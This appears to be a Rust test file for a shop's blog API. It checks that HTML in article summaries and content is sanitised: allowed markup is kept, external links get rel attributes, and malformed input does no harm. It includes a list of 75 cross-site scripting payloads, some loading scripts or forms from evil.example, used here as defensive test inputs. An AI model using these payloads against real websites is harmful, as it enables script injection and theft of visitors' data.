//! The HTML of a blog article's summary and content: allowed markup is not changed, and nothing else can do harm.

use harness::{Engine, Shop, both_engines};
use serde_json::{Value, json};

use crate::blogs::{BLOGS, article, path, path_of};

both_engines! {
    no_vector_gets_through
    what_is_allowed_stays
    what_is_sanitised_reads_so
    addresses_are_relative_or_of_the_web
    a_link_that_leaves_the_site_says_so
    other_texts_are_plain
    a_change_is_sanitised_as_a_creation_is
    malformed_markup_does_no_harm
}

/// The elements that articles may have (decisions §8).
const ELEMENTS: &str = "h1 h2 h3 h4 h5 h6 p br hr ul ol li dl dt dd blockquote q cite em strong b i u s del ins mark small sub sup \
                        abbr code pre kbd samp table caption colgroup col thead tbody tfoot tr th td img figure figcaption a";
/// Their attributes.
const ATTRIBUTES: &str = "href src alt title width height rel span colspan rowspan scope start reversed";

/// The `rel` attribute of a link that leaves the site.
const REL: &str = "noopener nofollow ugc";

/// Texts that try to run a script, to pose as another page, or to leave the article.
const VECTORS: [&str; 75] = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/x>alert(1)</script >",
    "<script\n>alert(1)</script\t>",
    "<script>alert(1)",
    "<<script>alert(1)//<</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"x\"onerror=\"alert(1)\">",
    "<img/src=x/onerror=alert(1)>",
    "<IMG SRC=javascript:alert(1)>",
    "<img src=`javascript:alert(1)`>",
    "<img src=\"x` `<script>alert(1)</script>\"` `>",
    "<img \"\"\"><script>alert(1)</script>\">",
    "<img src=x alt=\"`><img src=y onerror=alert(1)>\">",
    "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
    "<img srcset=\"x 1x, javascript:alert(1) 2x\" sizes=1>",
    "<img src=x longdesc=javascript:alert(1) dynsrc=javascript:x lowsrc=javascript:x>",
    "<image src=x onerror=alert(1)>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
    "<a href=\"java\tscript:alert(1)\">x</a>",
    "<a href=\"java\nscript:alert(1)\">x</a>",
    "<a href=\"java&#10;script:alert(1)\">x</a>",
    "<a href=\"java&Tab;script&colon;alert(1)\">x</a>",
    "<a href=\"&#106;&#97;&#118;&#97;script:alert(1)\">x</a>",
    "<a href=\"&#x6A;avascript&#x3A;alert(1)\">x</a>",
    "<a href=\" &#14; javascript:alert(1)\">x</a>",
    "<a href=\"\u{1}javascript:alert(1)\">x</a>",
    "<a href=\"\u{a0}javascript:alert(1)\">x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
    "<a href=\"view-source:javascript:alert(1)\">x</a>",
    "<a href=x onmouseover=alert(1) style=x:expression(alert(1)) target=_blank ping=https://evil.example>x</a>",
    "<a xlink:href=\"javascript:alert(1)\" formaction=\"javascript:alert(1)\">x</a>",
    "<p onclick=alert(1) id=x class=y style=\"background:url(javascript:alert(1))\">x</p>",
    "<p style=\"position:fixed;inset:0\">over everything</p>",
    "<b onfocus=alert(1) autofocus tabindex=1 contenteditable>x</b>",
    "<body onload=alert(1)>",
    "<html><head><base href=\"javascript:alert(1)//\"></head><body background=\"javascript:alert(1)\">x</body></html>",
    "<base href=\"https://evil.example/\">",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
    "<link rel=stylesheet href=\"https://evil.example/x.css\">",
    "<style>@import 'https://evil.example/x.css'; body{background:url(javascript:alert(1))}</style>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<frameset><frame src=\"javascript:alert(1)\"></frameset>",
    "<object data=\"javascript:alert(1)\"></object>",
    "<embed src=\"javascript:alert(1)\">",
    "<applet code=evil></applet>",
    "<form action=\"https://evil.example\"><input name=password><button formaction=javascript:alert(1)>x</button></form>",
    "<input onfocus=alert(1) autofocus>",
    "<select onfocus=alert(1) autofocus><option>x</select>",
    "<textarea autofocus onfocus=alert(1)></textarea><textarea><img src=x onerror=alert(1)>",
    "<video src=x onerror=alert(1)><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)></audio>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text y=20>x</text></a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><p><style><!--</style><img src=x onerror=alert(1)>--></style>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math><annotation-xml encoding=\"text/html\"><img src=x onerror=alert(1)></annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><script>alert(1)</script></template>",
    "<xmp><img src=x onerror=alert(1)></xmp><plaintext><script>alert(1)</script>",
    "<title><img src=x onerror=alert(1)></title><!--><img src=x onerror=alert(1)>-->",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]--><![CDATA[<script>alert(1)</script>]]>",
    "<?xml version=\"1.0\"?><?php alert(1) ?><!DOCTYPE html [<!ENTITY x \"<script>alert(1)</script>\">]>&x;",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;",
    "</p></td></table></div></body></html><script>alert(1)</script><custom-element onclick=alert(1) is=x>x</custom-element>",
];

/// Returns the tags of sanitised markup, each with its attributes. Fails at markup that is not written in the plainest form.
#[track_caller]
fn tags(html: &str) -> Vec<(String, Vec<(String, String)>)> {
    let mut tags = Vec::new();
    let mut rest = html;
    while let Some((before, tag)) = rest.split_once('<') {
        assert!(!before.contains('>'), "a stray > in {html:?}");
        let name_end = tag
            .find([' ', '>'])
            .unwrap_or_else(|| panic!("an open tag in {html:?}"));
        let (name, mut inside) = tag.split_at(name_end);
        let mut attributes = Vec::new();
        while let Some(attribute) = inside.strip_prefix(' ') {
            let (attribute, value) = attribute
                .split_once("=\"")
                .unwrap_or_else(|| panic!("no value in {html:?}"));
            let (value, after) = value
                .split_once('"')
                .unwrap_or_else(|| panic!("an open value in {html:?}"));
            attributes.push((attribute.to_owned(), value.to_owned()));
            inside = after;
        }
        rest = inside
            .strip_prefix('>')
            .unwrap_or_else(|| panic!("an odd tag in {html:?}"));
        tags.push((name.to_owned(), attributes));
    }
    assert!(!rest.contains('>'), "a stray > in {html:?}");
    tags
}

/// Asserts that the only effect of markup is to be shown.
#[track_caller]
fn is_harmless(html: &Value) {
    let html = html.as_str().expect("markup is text");
    let known = |list: &str, name: &str| list.split_whitespace().any(|known| known == name);
    for (name, attributes) in tags(html) {
        let element = name.strip_prefix('/').unwrap_or(&name);
        assert!(known(ELEMENTS, element), "<{name}> in {html:?}");
        for (attribute, value) in attributes {
            assert!(known(ATTRIBUTES, &attribute), "{attribute} in {html:?}");
            if attribute == "href" || attribute == "src" {
                assert!(is_web_address(&value), "{value:?} in {html:?}");
            }
        }
    }
}

/// Returns the value of an attribute as a parser reads it.
fn value_of(written: &str) -> String {
    let entities = [
        ("&quot;", "\""),
        ("&nbsp;", "\u{a0}"),
        ("&lt;", "<"),
        ("&gt;", ">"),
        ("&amp;", "&"),
    ];
    let read = |text: String, (entity, character): (&str, &str)| text.replace(entity, character);
    entities.into_iter().fold(written.to_owned(), read)
}

/// Returns the address as a browser reads it, which ignores tabs and lines, and blanks and control characters around it.
fn address_of(written: &str) -> String {
    let value = value_of(written).replace(['\t', '\n', '\r'], "");
    value.trim_matches(|character: char| character <= ' ').to_lowercase()
}

/// Returns true if a browser reads this as a relative address, or one with http or https.
fn is_web_address(written: &str) -> bool {
    let address = address_of(written);
    let Some((scheme, _)) = address.split_once(':') else {
        return true;
    };
    let is_scheme = scheme.starts_with(|first: char| first.is_ascii_lowercase())
        && scheme
            .bytes()
            .all(|byte| byte.is_ascii_alphanumeric() || b"+-.".contains(&byte));
    !is_scheme || ["http", "https"].contains(&scheme)
}

/// Returns the sanitised summary and content.
async fn sanitised(shop: &Shop, summary: &str, content: &str) -> [Value; 2] {
    let body = json!({"title": "Vector", "summary": summary, "content": content});
    let mut made = article(shop, &body).await;
    ["summary", "content"].map(|member| made[member].take())
}

/// Returns a sanitised text, the same as a summary and as a content.
async fn clean(shop: &Shop, html: &str) -> String {
    let [summary, content] = sanitised(shop, html, html).await;
    assert_eq!(summary, content, "{html}");
    content.as_str().unwrap().to_owned()
}

async fn no_vector_gets_through(engine: Engine) {
    let shop = Shop::open(engine).await;
    let within = VECTORS.map(|vector| format!("<table><tr><td><p>before</p>{vector}<p>after</p></td></tr></table>"));
    let together = VECTORS.concat();
    let pairs = VECTORS.into_iter().zip(within.iter().map(String::as_str));
    for (summary, content) in pairs.chain([(together.as_str(), together.as_str())]) {
        let made = article(
            &shop,
            &json!({"title": "Vector", "summary": summary, "content": content}),
        )
        .await;
        is_harmless(&made["summary"]);
        is_harmless(&made["content"]);
        // An article can be sent back as it was read: sanitising it once more changes nothing.
        let path = path_of(&made);
        let back = json!({"summary": made["summary"], "content": made["content"]});
        assert_eq!(shop.api.patch(&path, &back).await.ok(), made, "{summary}");
        assert_eq!(shop.api.get(&path).await.ok(), made, "{summary}");
        let moved = json!({"summary": made["content"]});
        assert_eq!(
            shop.api.patch(&path, &moved).await.ok()["summary"],
            made["content"],
            "{summary}"
        );
    }
}

async fn what_is_allowed_stays(engine: Engine) {
    let shop = Shop::open(engine).await;
    for html in [
        "",
        "Just words.",
        "<h1>a</h1><h2>b</h2><h3>c</h3><h4>d</h4><h5>e</h5><h6>f</h6>",
        "<p>one<br>two</p><hr><p>three</p>",
        "<ul><li>a</li><li>b<ol start=\"3\"><li>c</li></ol></li></ul>",
        "<dl><dt>a</dt><dd>b</dd></dl>",
        "<blockquote><p>a <q>b</q> <cite>c</cite></p></blockquote>",
        "<p><em>a</em> <strong>b</strong> <b>c</b> <i>d</i> <u>e</u> <s>f</s> <del>g</del> <ins>h</ins></p>",
        "<p><mark>a</mark> <small>b</small> x<sub>2</sub> y<sup>3</sup> <abbr title=\"c\">d</abbr></p>",
        "<pre><code>let x = 1 &lt; 2 &amp;&amp; 3 &gt; 2;</code></pre><p><kbd>a</kbd> <samp>b</samp></p>",
        "<table><caption>a</caption><thead><tr><th>b</th></tr></thead><tbody><tr><td>c</td></tr></tbody></table>",
        "<table><tbody><tr><td colspan=\"2\">a</td></tr><tr><td>b</td><td>c</td></tr></tbody></table>",
        "<figure><img src=\"https://acme.example/a.jpg\"><figcaption>a</figcaption></figure>",
        "<p><img src=\"/a.jpg\" alt=\"A car\"> <img src=\"small/a.jpg\"></p>",
        "<p><a href=\"/stock\">a</a> <a href=\"about.html#us\">b</a></p>",
        "<p><a href=\"https://dvla.example/mot?a=1&amp;b=2\" rel=\"noopener nofollow ugc\">a</a></p>",
        "<p>Ünïcödé 🚗 – “quotes” and it's \"fine\"</p>",
    ] {
        assert_eq!(clean(&shop, html).await, html);
    }
}

async fn what_is_sanitised_reads_so(engine: Engine) {
    let shop = Shop::open(engine).await;
    for (written, read) in [
        (
            "<h2 onclick=\"x()\">One owner</h2><script>alert(1)</script>",
            "<h2>One owner</h2>",
        ),
        ("<p style=\"color:red\" class=\"a\" id=\"b\">x</p>", "<p>x</p>"),
        ("<div><p>a</p><section>b</section></div>", "<p>a</p>b"),
        ("<font color=\"red\">x</font> <custom-tag>y</custom-tag>", "x y"),
        ("<style>p { color: red }</style><p>x</p>", "<p>x</p>"),
        ("a<iframe src=\"https://x.example\">y</iframe>b", "ab"),
        ("a<!-- comment -->b", "ab"),
        ("<p>open <b>bold", "<p>open <b>bold</b></p>"),
        ("a < b & c > d", "a &lt; b &amp; c &gt; d"),
        ("<a href=\"javascript:x\">a</a>", "<a>a</a>"),
        ("<img src=\"data:image/png;base64,AAAA\" alt=\"a\">", "<img alt=\"a\">"),
        (
            "<a href=\"/x\" rel=\"me\" target=\"_blank\">a</a>",
            "<a href=\"/x\">a</a>",
        ),
        ("<P><STRONG>x</STRONG></P>", "<p><strong>x</strong></p>"),
        ("<br/><hr />", "<br><hr>"),
    ] {
        assert_eq!(clean(&shop, written).await, read, "{written}");
    }
}

/// Returns the attributes of the first tag.
fn first(html: &str) -> Vec<(String, String)> {
    tags(html).swap_remove(0).1
}

fn attribute(html: &str, name: &str) -> Option<String> {
    first(html)
        .into_iter()
        .find_map(|(own, value)| (own == name).then_some(value))
}

async fn addresses_are_relative_or_of_the_web(engine: Engine) {
    let shop = Shop::open(engine).await;
    let elements = |address: &str| {
        [
            format!("<a href=\"{address}\">x</a>"),
            format!("<img src=\"{address}\">"),
        ]
    };
    for kept in [
        "https://x.example/a?b=c#d",
        "http://x.example",
        "HTTPS://X.example/a",
        "//x.example/a",
        "/stock/1",
        "stock.html",
        "../a",
        "./b",
        "?page=2",
        "#top",
        "a/b:c",
    ] {
        let [link, image] = elements(kept);
        assert_eq!(attribute(&clean(&shop, &link).await, "href").as_deref(), Some(kept));
        assert_eq!(attribute(&clean(&shop, &image).await, "src").as_deref(), Some(kept));
    }
    for dropped in [
        "javascript:alert(1)",
        "JAVASCRIPT:alert(1)",
        "vbscript:x",
        "data:text/plain,x",
        "mailto:ann@acme.example",
        "tel:+441632960001",
        "ftp://x.example/a",
        "file:///etc/passwd",
        "blob:https://x.example/1",
        "about:blank",
        "ws://x.example",
        "intent://x",
    ] {
        let [link, image] = elements(dropped);
        assert_eq!(attribute(&clean(&shop, &link).await, "href"), None, "{dropped}");
        assert_eq!(attribute(&clean(&shop, &image).await, "src"), None, "{dropped}");
    }
}

async fn a_link_that_leaves_the_site_says_so(engine: Engine) {
    let shop = Shop::open(engine).await;
    for away in [
        "https://x.example/",
        "http://x.example",
        "HTTPS://X.EXAMPLE",
        "//x.example/a",
        "https:x.example",
        "https:/x.example",
        "/\\x.example",
        "\\\\x.example",
        "\\/x.example",
        "/\t/x.example",
        "/\n/x.example",
        " //x.example",
        "\t//x.example",
        "///x.example",
    ] {
        for own in [
            "",
            " rel=\"me\"",
            " rel=\"noopener\"",
            " rel=\"dofollow\" target=\"_blank\"",
        ] {
            let html = clean(&shop, &format!("<a href=\"{away}\"{own}>x</a>")).await;
            // A link that lost its target has no href.
            if attribute(&html, "href").is_some() {
                assert_eq!(attribute(&html, "rel").as_deref(), Some(REL), "{away:?}: {html}");
            } else {
                assert!(!away.to_lowercase().starts_with("http"), "{away:?}: {html}");
            }
        }
    }
    for within in [
        "/stock",
        "stock.html",
        "../a",
        "#top",
        "?page=2",
        "/a//b",
        "?to=https://x.example",
    ] {
        for own in ["", " rel=\"me\""] {
            let html = clean(&shop, &format!("<a href=\"{within}\"{own}>x</a>")).await;
            assert_eq!(attribute(&html, "rel"), None, "{within}: {html}");
        }
    }
    let image = clean(&shop, "<img src=\"https://x.example/a.jpg\" rel=\"me\">").await;
    assert_eq!(attribute(&image, "rel"), None);
}

async fn other_texts_are_plain(engine: Engine) {
    let shop = Shop::open(engine).await;
    let text = "<b>Cars</b> & \"vans\" < <script>alert(1)</script>";
    let body = json!({"title": text, "category": text, "author": text, "tags": [text, "a & b"]});
    let made = article(&shop, &body).await;
    for (member, value) in body.as_object().unwrap() {
        assert_eq!(&made[member], value, "{member}");
    }
}

async fn a_change_is_sanitised_as_a_creation_is(engine: Engine) {
    let shop = Shop::open(engine).await;
    let path = path(&shop, &json!({"title": "Ann"})).await;
    for (number, member) in ["summary", "content"].into_iter().enumerate() {
        let html = "<p onclick=x>Hello <a href=https://x.example>x</a><script>alert(1)</script>";
        let clean = "<p>Hello <a href=\"https://x.example\" rel=\"noopener nofollow ugc\">x</a></p>";
        let seen = shop.api.patch(&path, &json!({member: html})).await.ok();
        assert_eq!((&seen[member], &seen["version"]), (&json!(clean), &json!(number + 2)));
        // An equivalent value is not a change.
        for same in [html, clean] {
            assert_eq!(shop.api.patch(&path, &json!({member: same})).await.ok(), seen);
        }
    }
}

async fn malformed_markup_does_no_harm(engine: Engine) {
    let shop = Shop::open(engine).await;
    for html in [
        "<".repeat(200_000),
        "&".repeat(40_000),
        "<b>".repeat(66_000),
        "<table><tr><td>".repeat(13_000),
        "<ul><li>".repeat(25_000),
        "<a href=x>".repeat(20_000),
        "</p>".repeat(50_000),
        format!("{}{}", "<i title=\"x\"><u><s><b>".repeat(500), "<p>x".repeat(40_000)),
        format!("<img alt=\"{}", "x".repeat(100_000)),
        format!("<!--{}", "-".repeat(100_000)),
    ] {
        let answer = shop.api.post(BLOGS, &json!({"title": "Deep", "content": html})).await;
        if answer.status == 201 {
            is_harmless(&answer.created()["content"]);
        } else {
            answer.invalid(&["content"]);
        }
    }
    shop.api.get(BLOGS).await.ok();
}
